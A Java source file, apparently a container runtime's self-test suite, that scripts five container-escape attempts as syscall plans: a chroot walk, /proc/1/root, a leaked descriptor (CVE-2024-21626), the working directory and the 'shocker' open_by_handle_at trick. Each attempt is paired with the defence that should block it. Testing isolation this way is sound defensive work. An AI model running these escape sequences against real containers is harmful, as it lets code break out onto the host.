package dev.brig.runtime.attack;

import static dev.brig.namespaces.Abi.AT_FDCWD;
import static dev.brig.namespaces.Abi.AT_REMOVEDIR;
import static dev.brig.namespaces.Abi.O_PATH;
import static dev.brig.namespaces.Abi.O_RDONLY;
import static dev.brig.namespaces.Abi.ZERO;
import static dev.brig.namespaces.Abi.mode;
import static dev.brig.namespaces.Abi.num;
import static dev.brig.namespaces.Abi.text;
import static dev.brig.namespaces.Abi.value;

import dev.brig.linux.Errno;
import dev.brig.linux.Syscall;
import dev.brig.plan.Arithmetic;
import dev.brig.plan.Condition;
import dev.brig.plan.Label;
import dev.brig.plan.Op;
import dev.brig.plan.Operand;
import dev.brig.plan.PlanBuilder;
import dev.brig.plan.Slot;
import java.util.List;

/// Ways out of the root directory.
final class RootAttacks {
  private static final String OWN_ROOT = "every call succeeded, and / is still the container's";
  private static final String PIVOT = "pivot_root, with the old root detached";
  private static final int DESCRIPTORS = 256;

  // struct file_handle of ext4's root directory: FILEID_INO32_GEN, inode 2, generation 0;
  // name_to_handle_at(2).
  private static final Operand.Data HANDLE =
      new Operand.Data(
          new byte[] {8, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0},
          "{handle_bytes=8, handle_type=1, f_handle=inode 2}");

  static final List<Attack> ALL =
      List.of(
          new Attack(
              "chroot-walk",
              "leave / by a chroot below an open directory and ..",
              PIVOT,
              RootAttacks::walk),
          new Attack(
              "root-of-pid-1",
              "enter / of pid 1 by /proc/1/root",
              "pid namespace with a /proc of its own",
              RootAttacks::rootOfPid1),
          new Attack(
              "leaked-descriptor",
              "climb from an inherited directory (CVE-2024-21626)",
              "close_range before execve",
              RootAttacks::leakedDescriptor),
          new Attack(
              "working-directory",
              "climb from the working directory",
              "chdir inside the new root",
              s -> {
                s.climb();
                s.judgeRoot(".", "it ends at the container's /");
              }),
          new Attack(
              "open-by-handle",
              "open the host's root by its inode number (shocker)",
              "no CAP_DAC_READ_SEARCH; seccomp",
              RootAttacks::openByHandle));

  private RootAttacks() {}

  private static void walk(AttackSteps s) {
    PlanBuilder plan = s.plan();
    Label inside = plan.label("in the inner root");
    Slot root = new Slot("rootfd");
    Slot changed = new Slot("changed");
    plan.attempt(Syscall.MKDIRAT, AT_FDCWD, text("/.brig-attack.d"), mode(0700));
    s.call(root, Syscall.OPENAT, AT_FDCWD, text("/"), O_RDONLY);
    plan.attempt(changed, Syscall.CHROOT, text("/.brig-attack.d"));
    plan.attempt(Syscall.UNLINKAT, value(root), text(".brig-attack.d"), AT_REMOVEDIR);
    plan.branch(changed, Condition.EQUAL, 0, inside);
    // There is nothing to be written, or nobody who may: any directory does.
    s.call(Syscall.CHROOT, text("/dev"));
    plan.mark(inside);
    s.call(Syscall.FCHDIR, value(root));
    s.climb();
    s.call(Syscall.CHROOT, text("."));
    s.judgeRoot("/", OWN_ROOT);
  }

  private static void rootOfPid1(AttackSteps s) {
    Slot root = new Slot("rootfd");
    Label own = s.plan().label("own root");
    s.call(root, Syscall.OPENAT, AT_FDCWD, text("/proc/1/root"), O_PATH);
    s.unlessHostRoot(root, own);
    s.reached("it is the host's root");
    s.plan().mark(own);
    s.held("pid 1 is the container's own, and so is its root");
  }

  private static void leakedDescriptor(AttackSteps s) {
    PlanBuilder plan = s.plan();
    Label next = plan.label("next descriptor");
    Label closed = plan.label("not a directory");
    Slot fd = new Slot("descriptor");
    Slot parent = new Slot("parent");
    plan.add(new Op.Assign(fd, num(3)));
    plan.mark(next);
    plan.attempt(parent, Syscall.OPENAT, value(fd), text(".."), O_PATH);
    plan.branch(parent, Condition.LESS, 0, closed);
    s.call(Syscall.FCHDIR, value(parent));
    plan.attempt(Syscall.CLOSE, value(parent));
    s.climb();
    s.unlessHostRoot(".", closed);
    s.reached("a descriptor that was left open leads to the host's root");
    plan.mark(closed);
    plan.add(new Op.Compute(fd, fd, Arithmetic.ADD, num(1)));
    plan.branch(fd, Condition.LESS, DESCRIPTORS, next);
    s.held("no descriptor from 3 on is a directory outside");
  }

  private static void openByHandle(AttackSteps s) {
    PlanBuilder plan = s.plan();
    Label opened = plan.label("opened");
    Slot mount = new Slot("mountfd");
    // A file bound from the host is the best way to the host's file system.
    plan.attempt(mount, Syscall.OPENAT, AT_FDCWD, text("/etc/hosts"), O_RDONLY);
    plan.branch(mount, Condition.AT_LEAST, 0, opened);
    s.call(mount, Syscall.OPENAT, AT_FDCWD, text("/"), O_RDONLY);
    plan.mark(opened);
    s.probe(Errno.ESTALE, Syscall.OPEN_BY_HANDLE_AT, value(mount), HANDLE, ZERO);
    s.through("files of a whole file system can be opened by their inode numbers");
  }
}
